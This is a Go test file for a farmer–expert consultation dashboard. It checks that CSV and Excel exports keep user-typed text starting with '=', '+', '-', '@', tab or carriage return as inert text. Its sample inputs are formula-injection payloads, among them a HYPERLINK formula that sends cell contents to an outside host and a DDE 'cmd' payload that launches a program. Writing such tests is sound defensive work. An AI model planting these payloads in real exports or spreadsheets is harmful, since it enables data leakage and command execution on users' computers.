package web_test

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/agriclinic/agriclinic/consult"
)

// formulas are what farmers and experts could type that a spreadsheet would run.
var formulas = []string{
	`=HYPERLINK("http://x/?"&A1,"点我")`,
	`@SUM(1+1)`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3`,
	"\t=1+1",
	"\r=1+1",
}

// readCSV parses a downloaded CSV (after its byte-order mark).
func readCSV(t *testing.T, body string) [][]string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff")))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, body)
	}
	return rows
}

// runnable says which cells a spreadsheet would take for a formula.
func runnable(rows [][]string) []string {
	var out []string
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				out = append(out, cell)
			}
		}
	}
	return out
}

func TestExportedCellsASpreadsheetWouldRunAreNeutralised(t *testing.T) {
	t.Parallel()
	d := newDash(t)
	ctx := context.Background()
	for i, text := range formulas {
		if _, err := d.svc.Ask(ctx, consult.AskInput{ChatID: -100, MessageID: int64(100 + i), Farmer: consult.Person{ID: int64(300 + i), Name: text},
			Text: text, UpdateID: int64(100 + i)}, nil); err != nil {
			t.Fatal(err)
		}
	}
	d.expert(t, 501, formulas[0], "yuqing", "水稻", 9001)
	if _, err := d.svc.Claim(ctx, d.ids["yellow"], 501, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := d.svc.Answer(ctx, consult.AnswerInput{QuestionID: d.ids["yellow"], Expert: consult.Person{ID: 501}, Text: "追施尿素", UpdateID: 901}, nil); err != nil {
		t.Fatal(err)
	}
	browser, _ := d.signIn(t, 9001)

	_, body := get(t, browser, d.srv.URL+"/export.csv")
	archive := readCSV(t, body)
	if bad := runnable(archive); len(bad) > 0 {
		t.Errorf("the archive CSV has cells a spreadsheet runs: %q", bad)
	}
	cells := map[string]int{}
	for _, row := range archive {
		for _, cell := range row {
			cells[cell]++
		}
	}
	for _, f := range formulas {
		if cells["'"+f] == 0 {
			t.Errorf("the archive CSV lacks the question %q kept as text", f)
		}
	}
	if cells["水稻叶子发黄"] != 1 {
		t.Error("an ordinary question is missing or changed in the archive CSV")
	}

	_, body = get(t, browser, d.srv.URL+"/stats.csv")
	stats := readCSV(t, body)
	if bad := runnable(stats); len(bad) > 0 {
		t.Errorf("the statistics CSV has cells a spreadsheet runs: %q", bad)
	}
	named := false
	for _, row := range stats {
		named = named || row[0] == "'"+formulas[0]
	}
	if !named {
		t.Errorf("the statistics CSV lacks the expert's name kept as text:\n%s", body)
	}

	// The workbook stores every cell as a string, never a formula: nothing to neutralise.
	resp, err := browser.Get(d.srv.URL + "/export.xlsx")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	f, err := excelize.OpenReader(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := f.GetRows("问题档案")
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for r, row := range rows {
		for c, v := range row {
			cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
			formula, _ := f.GetCellFormula("问题档案", cell)
			if formula != "" {
				t.Errorf("xlsx %s holds the formula %q", cell, formula)
			}
			for _, want := range formulas {
				if v == want {
					seen++
					if typ, _ := f.GetCellType("问题档案", cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
						t.Errorf("xlsx %s (%q) is of type %v, want a string", cell, v, typ)
					}
				}
			}
		}
	}
	if seen < len(formulas) {
		t.Errorf("the workbook shows %d of the %d texts as typed", seen, len(formulas))
	}
}
